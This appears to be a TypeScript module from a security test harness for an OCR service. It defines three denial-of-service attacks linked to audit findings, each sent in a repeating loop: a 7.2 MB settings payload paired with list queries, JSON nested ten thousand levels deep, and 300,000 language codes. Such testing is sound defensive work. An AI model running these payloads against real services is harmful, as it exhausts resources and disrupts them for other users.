import { randomUUID } from 'node:crypto';
import type { Attack } from '../attack.ts';
import { persist } from '../persist.ts';
import { PIXEL_INPUT, post } from './post.ts';

/** Large settings that a refused request would keep, and lists that would load them. */
export const largeNativeSettings: Attack = {
  name: 'native_settings of seven megabytes, and lists of the requests',
  finding: 'S6, B3',
  run: async ({ funded }, signal) => {
    const native_settings = { note: 'x'.repeat(7_200_000) };
    const input = { type: 'url', url: 'http://unknown.invalid/a.png' };
    const list = JSON.stringify({ query: '{ requests(first: 100) { nodes { id } } }' });
    const headers = { 'content-type': 'application/json' };
    await Promise.all([
      persist(signal, { pauseMs: 100 }, () =>
        post(funded, { engine: 'instant', input, mode: 'async', native_settings }, signal),
      ),
      persist(signal, { pauseMs: 300 }, () => funded.caller.call('POST', '/graphql', { body: list, headers, signal })),
    ]);
  },
};

export const deepNativeSettings: Attack = {
  name: 'native_settings nested ten thousand deep',
  finding: 'S19, B4',
  run: ({ funded }, signal) => {
    const nested = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
    const body = `{"engine":"instant","input":${JSON.stringify(PIXEL_INPUT)},"native_settings":${nested}}`;
    return persist(signal, { pauseMs: 50 }, () => funded.caller.ocr(body, { key: randomUUID(), signal }));
  },
};

export const manyLanguages: Attack = {
  name: 'three hundred thousand language codes',
  finding: 'S12',
  run: ({ penniless }, signal) => {
    const lang = Array.from({ length: 300_000 }, (_, n) => `x${n.toString(36)}`).join('+');
    return persist(signal, { pauseMs: 500 }, () =>
      post(penniless, { engine: 'tesseract', input: PIXEL_INPUT, native_settings: { lang } }, signal),
    );
  },
};
